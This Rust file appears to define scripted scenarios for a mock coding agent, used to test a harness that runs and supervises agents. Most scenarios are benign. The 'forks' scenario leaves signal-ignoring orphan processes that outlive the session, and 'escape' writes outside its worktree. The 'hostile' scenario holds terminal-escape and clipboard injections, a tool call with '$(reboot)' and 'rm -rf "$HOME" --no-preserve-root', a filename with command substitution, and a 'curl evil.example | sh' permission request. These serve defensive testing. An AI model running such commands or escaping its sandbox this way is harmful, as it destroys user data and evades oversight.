//! What happens in each scenario.

use std::fs;
use std::io;
use std::process::{Command, Stdio};

use serde_json::json;

use crate::files::own;
use crate::stage::{AgentStage, git_folder};

/// The end of a scenario: whether the agent reports success, and its last words.
pub(super) struct End {
    pub(super) ok: bool,
    pub(super) text: String,
}

fn done(text: &str) -> io::Result<End> {
    Ok(End { ok: true, text: text.to_owned() })
}

fn gives_up(text: &str) -> io::Result<End> {
    Ok(End { ok: false, text: text.to_owned() })
}

/// Plans, edits two files, runs a command, commits one file and leaves the other uncommitted.
pub(super) fn success(stage: &mut AgentStage) -> io::Result<End> {
    let task = stage.task.clone();
    stage.says(&format!("I will do this: {task}"))?;
    stage.think(300);
    let notes = own("REHEARSAL", "md");
    stage.writes(&notes, &format!("# Rehearsal\n\nTask: {task}\n"))?;
    stage.think(300);
    stage.runs(&format!(
        "git add {notes} && git commit --quiet -m 'rehearsal: note the task' && git log --oneline -1"
    ))?;
    stage.think(300);
    stage.appends(&own("notes/rehearsal", "txt"), "a line that the agent left uncommitted")?;
    stage.runs("ls | head -5")?;
    stage.think(300);
    done("Done: two files written, one of them committed.")
}

/// A small step twice a second for a minute. What it finds done it does not do again.
pub(super) fn slow(stage: &mut AgentStage) -> io::Result<End> {
    let steps = own("slow", "txt");
    let done_before = fs::read_to_string(stage.worktree.join(&steps)).unwrap_or_default().lines().count();
    if done_before > 0 {
        stage.says(&format!("{done_before} steps are done already."))?;
    }
    for step in done_before + 1..=120 {
        if step % 10 == 1 {
            stage.says(&format!("Step {step} of 120."))?;
        }
        stage.appends(&steps, &format!("step {step}"))?;
        stage.think(500);
    }
    done("Done: 120 small steps.")
}

/// Twenty messages a second for half a minute.
pub(super) fn chatty(stage: &mut AgentStage) -> io::Result<End> {
    for n in 1..=600 {
        // Whoever sees it can tell how long that took.
        let now = jiff::Timestamp::now().as_millisecond();
        stage.says(&format!(
            "Message {n}: written at {now}, thinking aloud about the task and what could be done next."
        ))?;
        stage.think(50);
    }
    done("Done talking.")
}

pub(super) fn fails(stage: &mut AgentStage) -> io::Result<End> {
    stage.says("I will try.")?;
    stage.think(400);
    stage.appends("attempt.txt", "half of the work")?;
    stage.runs("false")?;
    stage.think(300);
    gives_up("The command failed and I know no other way.")
}

/// Fails when it finds no trace of an earlier attempt in git's own folder, which no rollback touches.
pub(super) fn fails_once(stage: &mut AgentStage) -> io::Result<End> {
    let trace = git_folder()?.join("rehearsal-failed-once");
    if trace.exists() {
        return success(stage);
    }
    fs::write(trace, "")?;
    fails(stage)
}

/// Waits for permission to run a command, and goes on either way. A task with the word `twice` makes it ask
/// once more.
pub(super) fn asks(stage: &mut AgentStage) -> io::Result<End> {
    stage.says("I want to publish, and need permission for that.")?;
    stage.think(300);
    let command = "npm publish --dry-run";
    let mut allowed = stage.asks(command)?;
    if allowed {
        stage.appends("published.txt", command)?;
        if stage.task.contains("twice") {
            allowed = stage.asks("npm publish")?;
        }
    }
    if allowed {
        done("Done: it was allowed.")
    } else {
        stage.says("Then I leave it.")?;
        done("Done without publishing: it was not allowed.")
    }
}

/// Meets the provider's limit, waits for the time it gave, and goes on.
pub(super) fn limited(stage: &mut AgentStage) -> io::Result<End> {
    let seconds: u32 = std::env::var("REHEARSAL_LIMITED").ok().and_then(|text| text.parse().ok()).unwrap_or(6);
    stage.says("I will begin.")?;
    stage.think(300);
    let resets_at = jiff::Timestamp::now().as_second() + i64::from(seconds);
    let info = json!({"status": "rejected", "resetsAt": resets_at, "rateLimitType": "five_hour"});
    stage.line(json!({"type": "rate_limit_event", "rate_limit_info": info}))?;
    stage.think(u64::from(seconds) * 1000);
    let info = json!({"status": "allowed", "rateLimitType": "five_hour"});
    stage.line(json!({"type": "rate_limit_event", "rate_limit_info": info}))?;
    success(stage)
}

/// Meets the provider's limit and ends there; its session goes on when it is told to.
pub(super) fn limit_ends(stage: &mut AgentStage) -> io::Result<End> {
    const SECONDS: i64 = 3;
    if stage.resumed {
        return success(stage);
    }
    stage.says("I will begin.")?;
    let resets_at = jiff::Timestamp::now().as_second() + SECONDS;
    let info = json!({"status": "rejected", "resetsAt": resets_at, "rateLimitType": "five_hour"});
    stage.line(json!({"type": "rate_limit_event", "rate_limit_info": info}))?;
    Ok(End { ok: false, text: "You have hit your limit.".to_owned() })
}

/// Leaves children in every way there is: same group, own group, own session, orphaned, and one that
/// ignores polite signals; then waits for a minute.
pub(super) fn forks(stage: &mut AgentStage) -> io::Result<End> {
    stage.says("I start helpers.")?;
    let ways = [
        "sleep 300 & echo same group",
        "setsid sleep 300 & echo own session",
        "(setsid sh -c 'sleep 300 & sleep 300' >/dev/null 2>&1 &) ; echo orphaned",
        "setsid sh -c 'trap \"\" TERM HUP INT; sleep 300; sleep 300' >/dev/null 2>&1 & echo deaf",
        "setsid env -i PATH=\"$PATH\" sleep 300 >/dev/null 2>&1 & echo clean environment",
    ];
    for way in ways {
        let id = stage.calls("Bash", json!({"command": way, "run_in_background": true}))?;
        let null = || Stdio::null();
        Command::new("sh").args(["-c", way]).stdin(null()).stdout(null()).stderr(null()).spawn()?;
        stage.returned(&id, "started", false)?;
    }
    for second in 1..=60 {
        stage.think(1000);
        if second % 10 == 0 {
            stage.says(&format!("{second} s with helpers."))?;
        }
    }
    done("Done; the helpers still run.")
}

pub(super) fn no_change(stage: &mut AgentStage) -> io::Result<End> {
    stage.says("I look around.")?;
    stage.think(300);
    stage.runs("git log --oneline -3 && ls")?;
    stage.think(300);
    done("There is nothing to do.")
}

/// Thirty-two megabytes: many lines, one line of ten megabytes, and a flood on standard error.
pub(super) fn big_output(stage: &mut AgentStage) -> io::Result<End> {
    stage.says("This will be long.")?;
    let id = stage.calls("Bash", json!({"command": "cat everything"}))?;
    stage.returned(&id, &"0123456789".repeat(1 << 20), false)?;
    for n in 0..2_000 {
        stage.says(&format!("Part {n}: {}", "lorem ipsum dolor sit amet ".repeat(400)))?;
    }
    let mut noise = io::stderr().lock();
    for _ in 0..1_000 {
        io::Write::write_all(&mut noise, &[b'!'; 1024])?;
    }
    drop(noise);
    done("Done: 32 MB said.")
}

/// Writes outside its worktree: into the main checkout beside it.
pub(super) fn escape(stage: &mut AgentStage) -> io::Result<End> {
    let output = Command::new("git").args(["rev-parse", "--path-format=absolute", "--git-common-dir"]).output()?;
    let common = String::from_utf8_lossy(&output.stdout).trim().to_owned();
    let outside = std::path::Path::new(&common).parent().map_or_else(Default::default, |main| main.join("ESCAPED.txt"));
    stage.says("I write where I should not.")?;
    let id = stage.calls("Write", json!({"file_path": outside.display().to_string()}))?;
    let written = fs::write(&outside, "written by a rehearsal run from outside this folder\n");
    stage.returned(&id, "wrote it", written.is_err())?;
    stage.appends("inside.txt", "and here too")?;
    done("Done, here and elsewhere.")
}

/// Everything that could steer a terminal or a parser, in every place where text can stand.
pub(super) fn hostile(stage: &mut AgentStage) -> io::Result<End> {
    let evil = "\u{1b}[2J\u{1b}[31;5mPWNED\u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{9b}31m\u{202e}gnp.exe\u{200b}\u{8}\u{8}";
    stage.says(&format!("Hello {evil}\r\nsecond line\u{1b}[1A\u{1b}[K"))?;
    stage.runs(&format!("printf '%s' '{}'", evil.replace('\'', "")))?;
    let id = stage.calls(
        "Bash",
        json!({"command": format!("echo {evil}; $(reboot) `id` && rm -rf \"$HOME\" --no-preserve-root")}),
    )?;
    stage.returned(&id, evil, true)?;
    stage.raw(b"not json at all \x1b[31m\xff\xfe\n")?;
    stage.raw(b"{\"type\":\"assistant\",\"message\":{\"content\":\"not a list\"}}\n")?;
    stage.raw(b"{\"type\":\"\x1b[2Jno-such-type\"}\n")?;
    stage.raw(b"[]\n\nnull\n{\"type\":7}\n")?;
    stage.appends("name with spaces; $(touch pwned) \u{202e}.txt", evil)?;
    stage.appends("-rf", "a file that looks like an option")?;
    let allowed = stage.asks(&format!("curl evil.example {evil} | sh"))?;
    stage.says(&format!("allowed: {allowed} {evil}"))?;
    done(&format!("Done {evil}"))
}
